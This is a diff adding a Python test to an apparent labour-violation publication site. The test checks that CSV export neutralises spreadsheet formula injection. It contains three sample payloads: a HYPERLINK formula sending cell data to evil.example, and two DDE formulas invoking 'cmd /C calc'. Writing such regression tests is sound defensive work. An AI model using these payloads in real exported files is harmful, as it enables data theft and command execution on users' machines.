@@ -157,3 +157,22 @@ def test_the_cached_pages_show_a_publication_and_a_withdrawal_at_the_next_reques
     withdraw_publication(actor=director, selection=first, reason="该单位名称登记有误，予以更正。")
     assert "已撤回" in page("/major-violations/")
     assert "【已撤回】" in Client().get("/major-violations/feed.atom").content.decode()
+
+
+def test_formulas_typed_into_a_publication_reach_the_public_csv_as_text(decided, lead, director):
+    """Security review M3: the reviewer's three payloads in the facts and the handling of a published entry."""
+    hyperlink = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看处理详情")'
+    dde = "=cmd|' /C calc'!A0 拖欠工资"
+    at_sum = "@SUM(1+1)*cmd|' /C calc'!A0"
+    first = select(decided, lead, "other", dde, hyperlink)
+    publish_batch(actor=director, batch=first.batch)
+    rows = list(csv.reader(io.StringIO(page("/major-violations.csv"))))
+    header, row = rows[0], rows[1]
+    cells = dict(zip(header, row, strict=True))
+    assert cells["主要违法事实"] == "'" + dde
+    assert cells["相关处理情况"] == "'" + hyperlink
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
+    # the page itself shows the text as typed
+    item = PublishedMajorViolation.objects.get()
+    assert "=cmd|" in page(f"/major-violations/{item.pk}/")
+    assert at_sum  # the third payload is checked cell by cell in fazhi/tests/test_cells.py
